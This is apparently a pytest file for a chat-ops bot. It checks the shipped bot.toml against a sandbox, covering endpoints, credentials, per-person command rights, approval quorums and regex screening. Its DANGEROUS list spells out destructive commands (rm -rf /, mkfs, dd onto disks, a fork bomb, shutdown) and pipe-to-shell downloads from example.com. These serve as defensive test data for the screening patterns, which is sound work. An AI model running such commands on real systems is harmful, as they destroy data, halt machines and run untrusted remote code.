"""The ``bot.toml`` of the checkout: it works with the sandbox and shows every key."""

from __future__ import annotations

import dataclasses
import re
import time
from pathlib import Path
from typing import Any, get_args

import pytest

from bot import config, model, policy, texts
from bot.app import adapters
from bot.commands import loader
from bot.config import reference
from bot.policy import access, identity, quorum, screening
from sandbox import world

ROOT = Path(__file__).resolve().parents[2]
SHIPPED = ROOT / "bot.toml"
TEXT = SHIPPED.read_text("utf-8")


def test_the_shipped_file_is_the_sandboxs_company() -> None:
    found = adapters.load(SHIPPED, {}, known_commands=loader.load)
    assert found.warnings == ()
    assert found.tables["dingtalk"]
    assert found.tables["lark"]
    ports = world.PORTS
    assert found.tables["dingtalk"].endpoint == f"http://127.0.0.1:{ports['dingtalk']}"
    assert found.tables["dingtalk"].webhook_hosts == (found.tables["dingtalk"].endpoint,)
    assert found.tables["lark"].domain == f"http://127.0.0.1:{ports['lark']}"
    assert found.cloud.endpoint == f"http://127.0.0.1:{ports['aliyun']}"
    assert found.tables["dingtalk"].client_id == world.DINGTALK_CLIENT_ID
    assert found.of(found.adapters.chat("dingtalk")).robot == world.DINGTALK_ROBOT
    assert found.tables["dingtalk"].client_secret.reveal() == world.DINGTALK_CLIENT_SECRET
    assert found.tables["dingtalk"].card_template == world.DINGTALK_CARD_TEMPLATE
    assert found.tables["dingtalk"].plain_template == world.DINGTALK_PLAIN_TEMPLATE
    assert found.tables["lark"].app_id == world.LARK_APP_ID
    assert found.tables["lark"].app_secret.reveal() == world.LARK_APP_SECRET
    assert found.cloud.region == world.ALIYUN_REGION
    assert found.cloud.credentials.key_id == world.ALIYUN_KEY_ID
    secret = found.cloud.credentials.key_secret
    assert secret
    assert secret.reveal() == world.ALIYUN_KEY_SECRET
    book = found.book
    assert book.tenants == {
        "dingtalk": frozenset({world.DINGTALK_CORP}),
        "lark": frozenset({world.LARK_TENANT}),
    }
    assert {(g.platform, g.chat): g.name for g in book.groups} == {
        **{("dingtalk", chat): name for chat, name in world.DINGTALK_GROUPS.items()},
        **{("lark", chat): name for chat, name in world.LARK_GROUPS.items()},
    }
    known = [person for person in world.PEOPLE if person.id != "mallory"]
    assert [(p.id, p.name, p.accounts) for p in book.people.values()] == [
        (
            p.id,
            p.name,
            (
                ("dingtalk", world.DINGTALK_CORP, p.dingtalk),
                ("lark", world.LARK_TENANT, p.lark),
            ),
        )
        for p in known
    ]
    assert {(f.platform, f.form) for f in book.forms} == {
        ("dingtalk", world.DINGTALK_FORM),
        ("lark", world.LARK_FORM),
    }
    [ops, lark] = found.tables["webhook"].robot
    assert (ops.name, ops.platform, lark.name, lark.platform) == (
        "ops", "dingtalk", "lark-ops", "lark",
    )  # fmt: skip
    assert ops.url.reveal().startswith(f"http://127.0.0.1:{ports['dingtalk']}/robot/send?")
    assert lark.url.reveal().startswith(f"http://127.0.0.1:{ports['lark']}/open-apis/bot/v2/hook/")
    assert found.cloud.endpoints == {"*": f"http://127.0.0.1:{ports['aliyun']}"}
    assert found.bot.data == ROOT / "var"
    assert found.commands == ROOT / "commands"


def test_the_shipped_file_lets_the_right_people_do_the_right_things() -> None:
    book = adapters.load(SHIPPED, {}).book
    may = {
        person.id: {name for name in book.commands if access.may_use(book, person, name)}
        for person in book.people.values()
    }
    assert may == {
        "alice": {"restart", "provision", "reboot-with-approval"},
        "bob": {"restart", "provision", "reboot-with-approval", "run"},
        "carol": {"restart", "provision", "reboot-with-approval", "run"},
        "dave": set(),
    }
    assert identity.person_of(book, model.Account("lark", world.LARK_TENANT, "ou_mallory")) is None
    run = book.policies[book.commands["run"].policy]
    assert quorum.electorate(quorum.Quorum(book, (run,), frozenset({"bob"}))) == ("carol",)
    assert run.code_required
    assert quorum.needed(quorum.Quorum(book, (run,), frozenset({"alice"})), run) == 2
    hire = book.policies[book.commands["provision"].policy]
    assert hire.form_counts
    assert book.commands["provision"].targets == ("hr-01",)


DANGEROUS = """
rm -rf /
sudo rm -r -f /*
rm --recursive --force --no-preserve-root /
rm -rf "/"
rm -rf -- /etc/
rm -rf build /usr
rm -rf /;ls
mkfs.ext4 /dev/vdb
dd if=/dev/zero of=/dev/sda bs=1M
cat junk > /dev/vda
:(){ :|:& };:
: () { : | : & } ; :
shutdown -h now
/sbin/poweroff
init 0
curl -fsSL http://example.com/x | sudo bash
wget -qO- example.com|sh
Format-Volume -DriveLetter D
stop-computer -Force
iwr https://example.com/x.ps1 -UseBasicParsing | iex
IEX (New-Object Net.WebClient).DownloadString('http://example.com/x')
"""
HARMLESS = """
rm -rf /tmp/build /var/log/old.log
rm -rf ./node_modules
rm -f /etc/nginx/old.conf
echo x > /dev/null
dd if=a of=b.img
systemctl restart nginx
echo begun; sleep 300; echo never
curl -o file https://example.com/x
Invoke-WebRequest https://example.com/x -OutFile x
Get-Volume; Restart-Service W3SVC
harm -rf is no command
echo the dd command writes blocks
"""


def test_the_shipped_patterns_tell_dangerous_from_harmless() -> None:
    book = adapters.load(SHIPPED, {}).book
    for script in DANGEROUS.strip().split("\n"):
        for where in ("text", "value", "script"):
            assert screening.examine(book, "run", where, script).refusal, script
    for script in HARMLESS.strip().split("\n"):
        assert screening.examine(book, "run", "script", script) == policy.Verdict(), script
    for pattern in book.patterns:
        assert texts.spoken("en", pattern.reason) != texts.spoken("zh-CN", pattern.reason)
    own = [path.read_text("utf-8") for path in (ROOT / "commands").glob("*.sh")]
    assert own
    assert all(not screening.examine(book, "x", "script", text).refusal for text in own)
    assert screening.examine(book, "restart", "text", "restart db-01 service=mysql").policies
    assert not screening.examine(book, "restart", "text", "restart web-01 service=nginx").policies


@pytest.mark.parametrize(
    "piece",
    ["rm ", "rm -r ", "/", " /", "curl |", "wget x ", "dd ", ">   ", ":(){", ": ", "r", "\n"],
)
def test_no_shipped_pattern_is_slow_on_hostile_text(piece: str) -> None:
    patterns = adapters.load(SHIPPED, {}).book.patterns
    text = (piece * 12_000)[:12_000] + "!"
    began = time.perf_counter()
    for pattern in patterns:
        pattern.regex.search(text)
    assert time.perf_counter() - began < 2


def test_every_key_stands_in_the_shipped_file() -> None:
    """Also a commented one: the file is where people look first."""
    section, seen = "", set()
    for line in TEXT.split("\n"):
        bare = re.sub("^(# )+", "", line)
        if header := re.match(r"\[+([\w.-]+)\]+(\s|$)", bare):
            section = header[1]
        elif pair := re.match(r"(\w+) = ", bare):
            seen.add((section, pair[1]))
    names = {"role.NAME": "role.dev", "policy.NAME": "policy.one-sre"}
    names["policy.NAME.stages"] = "policy.sre-and-dba.stages"
    names["policy.NAME.ladder"] = "policy.one-sre.ladder"
    names["policy.NAME.break_glass"] = "policy.one-sre.break_glass"
    operations = {"command.restart", "command.reboot-with-approval"}
    for title, table in reference.tables(adapters.ADAPTERS):
        name = title.strip("[]")
        here = operations if name == "command.NAME" else {names.get(name, name)}
        keys = {key for key, info in table.model_fields.items() if not reference._is_table(info)}
        assert keys <= {key for place, key in seen if place in here}, title


def test_the_commented_lines_show_the_true_defaults(tmp_path: Path) -> None:
    """With every commented default made real, the configuration is the same."""
    spoken = []
    for line in TEXT.split("\n"):
        found = re.match(
            r"# ((?!security_token|role_arn|external_id|sts_|ca_file|locale|policy|count|ram)"
            r"\w+ = .*)",
            line,
        )
        if re.match(r"# \[+[\w.]+\]+(\s|$)", line):
            spoken.append(line[2:])
        elif found and not re.match(r"robot_code|count|allowed_values|region|idle_x", found[1]):
            spoken.append(found[1])
        elif line.startswith("# count = ") and "how many" not in line:
            spoken.append(line[2:])
        else:
            spoken.append(line)
    text = "\n".join(spoken).replace('"sandbox/', f'"{ROOT}/sandbox/')
    (tmp_path / "bot.toml").write_text(text, "utf-8")
    environ = {"AUDIT_SECRET": "a" * 16, "MONITORING_SECRET": "m" * 16}
    shipped, loud = adapters.load(SHIPPED, {}), adapters.load(tmp_path / "bot.toml", environ)
    assert loud.warnings == ()
    assert loud.rules is not None
    assert {target.to.how for rule in loud.rules.rules.values() for target in rule.targets} == set(
        get_args(model.How)
    )
    assert (len(loud.endpoints), len(loud.buses), len(loud.sources)) == (1, 1, 1)
    assert loud.of(loud.adapters.inlet) == loud.adapters.inlet.settings()
    assert text.count("# ") < TEXT.count("# ") - 20
    assert (loud.tables["dingtalk"], loud.tables["lark"], loud.book) == _same_secrets(shipped, loud)
    assert set(loud.budgets) == set(shipped.budgets)


def _same_secrets(shipped: config.Config, loud: config.Config) -> tuple[Any, Any, policy.Book]:
    """What ``shipped`` says, with the other's secrets: those are at another path there."""
    dingtalk, lark = (
        shipped.tables[name].model_copy(update={key: getattr(loud.tables[name], key)})
        for name, key in (("dingtalk", "client_secret"), ("lark", "app_secret"))
    )
    book = shipped.book
    assert (book.freezes, book.windows) == ((), ()), "what stands there is an example"
    assert (len(loud.book.freezes), len(loud.book.windows)) == (1, 1)
    examples = {"freezes": loud.book.freezes, "windows": loud.book.windows}
    return dingtalk, lark, dataclasses.replace(book, **examples)


def test_the_reference_describes_every_key() -> None:
    page = (ROOT / "docs/reference/configuration.md").read_text("utf-8")
    assert page == reference.page(adapters.ADAPTERS), "run: python -m bot docs configuration"
    for title, table in reference.tables(adapters.ADAPTERS):
        for key, info in table.model_fields.items():
            assert info.description, f"{title} {key} is not described"
        assert table.__doc__, f"{title} is not described"
